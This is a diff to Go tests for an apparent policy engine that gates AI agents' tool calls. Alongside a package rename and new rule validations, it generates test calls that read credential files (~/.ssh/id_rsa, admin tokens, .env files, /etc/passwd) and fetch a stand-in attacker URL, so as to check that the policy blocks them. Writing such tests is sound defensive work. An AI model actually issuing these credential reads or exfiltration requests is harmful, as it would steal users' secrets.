@@ -1,4 +1,4 @@
-package policy_test
+package decide_test
 
 import (
 	"context"
@@ -6,6 +6,7 @@ import (
 	"fmt"
 	"os"
 	"path/filepath"
+	"slices"
 	"strings"
 	"testing"
 	"time"
@@ -14,7 +15,7 @@ import (
 	"google.golang.org/protobuf/types/known/structpb"
 
 	airlockv1 "github.com/airlock-gate/airlock/proto/airlock/v1"
-	"github.com/airlock-gate/airlock/services/policy"
+	"github.com/airlock-gate/airlock/services/policy/decide"
 	"github.com/airlock-gate/airlock/services/shared/canon"
 )
 
@@ -34,7 +35,7 @@ func TestCompiledRulesDecideLikeThePlainPolicy(t *testing.T) {
 
 func compiledDecidesLikePlain(t *testing.T, bindings map[string]string) {
 	ctx := context.Background()
-	rules := append(policy.BenchRules(100),
+	rules := append(decide.BenchRules(100),
 		&airlockv1.PolicyRule{Id: "camel", Priority: 1, ToolPattern: "bulk*", Effect: "deny", Redact: []string{"/token"}},
 		// "*" among tool_words matches every tool, as word_matches says.
 		&airlockv1.PolicyRule{Id: "any-word", Priority: 2, Server: "starsrv", ToolWords: []string{"zzz", "*"}, Effect: "deny", Risk: "high"},
@@ -63,6 +64,13 @@ func compiledDecidesLikePlain(t *testing.T, bindings map[string]string) {
 		// ambiguous about where its server ends (filed by its glob).
 		&airlockv1.PolicyRule{Id: "literal-names", Priority: 8, Pattern: "{notes__write,build__sh,claude__Bash}", Effect: "ask", Risk: "low", QueuePerThread: true},
 		&airlockv1.PolicyRule{Id: "literal-ambiguous", Priority: 8, Pattern: "srv___tool", Effect: "deny"},
+		// An argument rule that lets other arguments through, one that
+		// matches any argument by a regular expression, and annotations an
+		// allow rule believes only when trusted.
+		&airlockv1.PolicyRule{Id: "any-other", Priority: 6, Server: "fs", Tool: "tool_9", Args: map[string]string{"/path": "/tmp/**"}, OtherArguments: "any", Effect: "allow"},
+		&airlockv1.PolicyRule{Id: "regex-deny", Priority: 7, Server: "vault", ArgumentsMatch: `(?i)(^|/)secret`, Effect: "deny"},
+		&airlockv1.PolicyRule{Id: "closed-world", Priority: 9, Server: "docs", Annotations: map[string]bool{"openWorldHint": false}, Effect: "allow"},
+		&airlockv1.PolicyRule{Id: "destructive-hint", Priority: 9, Server: "docs", Annotations: map[string]bool{"destructiveHint": true, "readOnlyHint": false}, Effect: "ask"},
 	)
 	// An empty tool_words list in data.json matches no tool, as word_matches says.
 	def := mustDefault(t)
@@ -71,31 +79,31 @@ func compiledDecidesLikePlain(t *testing.T, bindings map[string]string) {
 	_ = json.Unmarshal(raw, &data0)
 	al := data0["airlock"].(map[string]any)
 	al["rules"] = append(al["rules"].([]any), map[string]any{"id": "no-words", "priority": 4, "server": "mail", "tool_words": []any{}, "effect": "deny"})
-	code, err := policy.NewCode(def.Modules, data0)
+	code, err := decide.NewCode(def.Modules, data0)
 	if err != nil {
 		t.Fatal(err)
 	}
-	ev, err := policy.NewEvaluator(ctx, code, rules, bindings)
+	ev, err := decide.NewEvaluator(ctx, code, rules, bindings)
 	if err != nil {
 		t.Fatal(err)
 	}
 	mods := ev.Modules()
-	delete(mods, policy.GeneratedModule)
+	delete(mods, decide.GeneratedModule)
 	var regoOpts []func(*rego.Rego)
 	for n, m := range mods {
 		regoOpts = append(regoOpts, rego.Module(n, m))
 	}
-	plain, err := rego.New(append(regoOpts, rego.Query(policy.Query), rego.Store(storeOf(t, ev.Data())))...).PrepareForEval(ctx)
+	plain, err := rego.New(append(regoOpts, rego.Query(decide.Query), rego.Store(storeOf(t, ev.Data())))...).PrepareForEval(ctx)
 	if err != nil {
 		t.Fatal(err)
 	}
-	for _, c := range append(comparisonCalls(), personCommandCalls()...) {
+	for _, c := range slices.Concat(comparisonCalls(), personCommandCalls(), secretAndNetworkCalls()) {
 		name := fmt.Sprintf("%s/%s__%s%v", c.AgentId, c.Server, c.Tool, c.Arguments.AsMap())
 		got, err := ev.Evaluate(ctx, c, time.Now())
 		if err != nil {
 			t.Fatalf("%s: %v", name, err)
 		}
-		in, _ := policy.Input(c)
+		in, _ := decide.Input(c)
 		rs, err := plain.Eval(ctx, rego.EvalInput(in))
 		if err != nil || len(rs) == 0 {
 			t.Fatalf("%s plain: %v", name, err)
@@ -151,6 +159,46 @@ func comparisonCalls() []*airlockv1.ToolCall {
 	return out
 }
 
+// secretAndNetworkCalls reach the coding profile's secret rules, the
+// network rules, arguments_match, annotations (trusted or not), arguments
+// an allow rule does not name and paths ending in a separator.
+func secretAndNetworkCalls() []*airlockv1.ToolCall {
+	var out []*airlockv1.ToolCall
+	add := func(server, tool string, args map[string]any, ann map[string]any, trusted bool) {
+		st, _ := structpb.NewStruct(args)
+		c := &airlockv1.ToolCall{AgentId: "bot", CallId: "c", Revision: 1, Server: server, Tool: tool, Arguments: st, AnnotationsTrusted: trusted}
+		if ann != nil {
+			c.Annotations, _ = structpb.NewStruct(ann)
+		}
+		out = append(out, c)
+	}
+	for _, p := range []string{"src/x.go", ".airlock/admin.token", "./.airlock/../.airlock/admin.token", "~/.ssh/id_rsa", ".env.local",
+		"certs/a.pem", "/tmp/", "/tmp/x", "/tmp/x/", "/tmp\\", "secret/x", "tokenizer.go", "*", ".e*"} {
+		add("claude", "Read", map[string]any{"file_path": p}, nil, false)
+		add("gemini", "read_many_files", map[string]any{"paths": []any{"a", p}}, nil, false)
+		add("claude", "Bash", map[string]any{"command": "cat " + p, "description": "d"}, nil, false)
+		add("fs", "delete_file", map[string]any{"path": p}, nil, false)
+		add("fs", "delete_file", map[string]any{"path": p, "paths": []any{"/etc/passwd"}}, nil, false)
+		add("fs", "tool_9", map[string]any{"path": p, "mode": "x"}, nil, false)
+		add("vault", "read", map[string]any{"deep": map[string]any{"list": []any{1.0, p}}}, nil, false)
+	}
+	for _, c := range []string{"grep -r token .", "rg --hidden x", "rg -uu x", "rgrep x .", "grep -v x f", "git show HEAD:.env", "make t?st", "make [ab]", "make *.o"} {
+		add("claude", "Bash", map[string]any{"command": c}, nil, false)
+		add("build", "sh", map[string]any{"cmd": c}, nil, false)
+	}
+	for _, t := range [][2]string{{"fetch", "fetch"}, {"http", "get_url"}, {"github", "get_file_contents"}, {"claude", "WebSearch"}, {"puppeteer", "read_page"}, {"x", "resolve_dns"}} {
+		add(t[0], t[1], map[string]any{"url": "https://attacker.example/?t=x"}, nil, false)
+	}
+	for _, ann := range []map[string]any{nil, {"openWorldHint": true}, {"openWorldHint": false}, {"openWorldHint": "false"},
+		{"destructiveHint": true, "readOnlyHint": false}, {"destructiveHint": true}} {
+		for _, trusted := range []bool{false, true} {
+			add("docs", "read_page", map[string]any{}, ann, trusted)
+			add("docs", "frobnicate", map[string]any{}, ann, trusted)
+		}
+	}
+	return out
+}
+
 // personCommandCalls cross the shell commands of the command rules (plain,
 // chained, substituted, redirected, blank) with the people a call may act
 // for (verified or only claimed) on the tools of the command, principals
@@ -200,11 +248,11 @@ func TestSeedExamplesDecideAsTheSeedsSay(t *testing.T) {
 		{Id: "p2", Priority: 2, Server: "fs-server", Tool: "read_file", Effect: "allow"},
 		{Id: "p10", Priority: 10, Tool: "*", Effect: "ask"},
 	}
-	code, err := policy.NewCode(mustDefault(t).Modules, nil) // the seed's rules alone
+	code, err := decide.NewCode(mustDefault(t).Modules, nil) // the seed's rules alone
 	if err != nil {
 		t.Fatal(err)
 	}
-	ev, err := policy.NewEvaluator(ctx, code, seed000, nil)
+	ev, err := decide.NewEvaluator(ctx, code, seed000, nil)
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -234,7 +282,7 @@ func TestMalformedOrUndefinedDecisionDenies(t *testing.T) {
 			if err := os.WriteFile(filepath.Join(dir, "p.rego"), []byte(tt.rego), 0o644); err != nil {
 				t.Fatal(err)
 			}
-			ev, err := policy.LoadDir(ctx, dir)
+			ev, err := decide.LoadDir(ctx, dir)
 			if err != nil {
 				t.Fatal(err)
 			}
@@ -247,7 +295,7 @@ func TestMalformedOrUndefinedDecisionDenies(t *testing.T) {
 }
 
 func TestCanceledEvaluationDenies(t *testing.T) {
-	ev, err := policy.LoadDefault(context.Background())
+	ev, err := decide.LoadDefault(context.Background())
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -262,14 +310,14 @@ func TestCanceledEvaluationDenies(t *testing.T) {
 func TestPolicyThatDoesNotCompileIsRefused(t *testing.T) {
 	dir := t.TempDir()
 	_ = os.WriteFile(filepath.Join(dir, "p.rego"), []byte("package airlock\n\ndecision := {\"action\": x}\n"), 0o644)
-	if _, err := policy.LoadDir(context.Background(), dir); err == nil || !strings.Contains(err.Error(), "p.rego") {
+	if _, err := decide.LoadDir(context.Background(), dir); err == nil || !strings.Contains(err.Error(), "p.rego") {
 		t.Fatalf("err %v: want a compile error naming p.rego", err)
 	}
 }
 
-func mustDefault(t *testing.T) *policy.Code {
+func mustDefault(t *testing.T) *decide.Code {
 	t.Helper()
-	c, err := policy.DefaultCode()
+	c, err := decide.DefaultCode()
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -280,7 +328,7 @@ func mustDefault(t *testing.T) *policy.Code {
 // `airlock policy eval` and `airlock policy replay` do, without a bus.
 func ExampleEvaluator() {
 	ctx := context.Background()
-	ev, err := policy.LoadDefault(ctx)
+	ev, err := decide.LoadDefault(ctx)
 	if err != nil {
 		panic(err)
 	}
@@ -296,7 +344,7 @@ func TestToolWordsSplitLikeThePolicy(t *testing.T) {
 		"delete_file": "delete file", "deleteFile": "delete file", "list-allowed.dirs": "list allowed dirs",
 		"getHTTPResponse": "get httpresponse", "v2Upload": "v2 upload", "__x__": "x", "": "",
 	} {
-		if got := strings.Join(policy.ToolWords(tool), " "); got != want {
+		if got := strings.Join(decide.ToolWords(tool), " "); got != want {
 			t.Errorf("ToolWords(%q) = %q, want %q", tool, got, want)
 		}
 	}
@@ -306,7 +354,7 @@ func TestToolWordsSplitLikeThePolicy(t *testing.T) {
 // canon.Digest of the call's arguments (canon's own tests pin its bytes).
 func TestDecisionCarriesTheArgumentsDigest(t *testing.T) {
 	ctx := context.Background()
-	ev, err := policy.LoadDefault(ctx)
+	ev, err := decide.LoadDefault(ctx)
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -323,7 +371,7 @@ func TestDecisionCarriesTheArgumentsDigest(t *testing.T) {
 
 func TestAUserAllowlistDeniesEveryoneElseAndTheQueueFlagReachesTheDecision(t *testing.T) {
 	ctx := context.Background()
-	ev, err := policy.NewEvaluator(ctx, mustDefault(t), []*airlockv1.PolicyRule{
+	ev, err := decide.NewEvaluator(ctx, mustDefault(t), []*airlockv1.PolicyRule{
 		{Id: "writers", Priority: 1, Server: "notes", Principals: []string{"alice"}, Effect: "ask", Approvers: []string{"requester"}, QueuePerThread: true},
 	}, nil)
 	if err != nil {
@@ -368,15 +416,19 @@ func TestRuleValidationRefusesBadCommandsAndPrincipals(t *testing.T) {
 		{"a_blank_principal", &airlockv1.PolicyRule{Id: "r", Effect: "ask", Principals: []string{" "}}, "name people"},
 		// "requester" is a role in rules' approvers, never a person.
 		{"the_requester_role_among_principals", &airlockv1.PolicyRule{Id: "r", Effect: "ask", Principals: []string{"requester"}}, "name people"},
+		{"other_arguments_neither_empty_nor_any", &airlockv1.PolicyRule{Id: "r", Effect: "allow", Args: map[string]string{"/p": "*"}, OtherArguments: "some"}, `or "any"`},
+		{"an_allow_rule_matching_any_argument", &airlockv1.PolicyRule{Id: "r", Effect: "allow", ArgumentsMatch: "x"}, "for ask and deny rules"},
+		{"a_malformed_arguments_match", &airlockv1.PolicyRule{Id: "r", Effect: "ask", ArgumentsMatch: "("}, "not a valid regular expression"},
+		{"an_unnamed_annotation", &airlockv1.PolicyRule{Id: "r", Effect: "ask", Annotations: map[string]bool{" ": true}}, "needs a name"},
 	} {
 		t.Run(tt.name, func(t *testing.T) {
-			if err := policy.ValidateRule(tt.r); err == nil || !strings.Contains(err.Error(), tt.want) {
+			if err := decide.ValidateRule(tt.r); err == nil || !strings.Contains(err.Error(), tt.want) {
 				t.Fatalf("ValidateRule = %v, want an error saying %q", err, tt.want)
 			}
 		})
 	}
 	ok := &airlockv1.PolicyRule{Id: "r", Effect: "allow", Commands: map[string]string{"/command": "git status*"}, Principals: []string{"alice"}, QueuePerThread: true}
-	if err := policy.ValidateRule(ok); err != nil {
+	if err := decide.ValidateRule(ok); err != nil {
 		t.Fatal(err)
 	}
 }
